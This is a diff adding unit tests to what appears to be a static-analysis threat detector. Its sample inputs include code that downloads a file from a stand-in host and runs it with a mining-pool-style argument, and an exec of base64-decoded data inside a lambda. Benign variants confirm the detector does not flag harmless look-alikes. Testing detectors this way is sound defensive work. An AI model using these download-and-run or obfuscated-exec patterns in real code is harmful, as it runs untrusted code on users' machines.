@@ -927,3 +927,35 @@ def test_shell_commands_that_decode_or_fetch_and_run_are_threats(source: str) ->
 )
 def test_shell_commands_that_decode_to_files_or_install_local_msis_are_not(source: str) -> None:
     assert "CPL-THR-015" not in danger(source)
+
+
+def test_a_download_and_a_run_in_separate_helpers_meet_through_their_parameters() -> None:
+    source = """
+    import os, subprocess, requests
+
+    def fetch(url, file):
+        r = requests.get(url, stream=True)
+        with open(file, "wb") as f:
+            for chunk in r.iter_content(8192):
+                f.write(chunk)
+
+    def start(path):
+        command = [path, "-o", "pool.example:8080"]
+        subprocess.Popen(command)
+
+    def main():
+        path = "/tmp/runner"
+        fetch("https://x.example/runner", file=path)
+        start(path)
+    """
+    assert "CPL-THR-002" in danger(source)
+    # the same helpers, the download saved and a different program run
+    benign = source.replace("        start(path)\n", '        start("/usr/bin/true")\n')
+    assert benign != source
+    assert "CPL-THR-002" not in danger(benign)
+
+
+def test_an_inline_lambda_passes_its_argument_to_the_sink_inside() -> None:
+    source = "import base64\n(lambda x: exec(base64.b64decode(x)))(BLOB)\n"
+    assert "CPL-THR-001" in danger(source)
+    assert "CPL-THR-001" not in danger("(lambda x: print(x))(BLOB)\n")
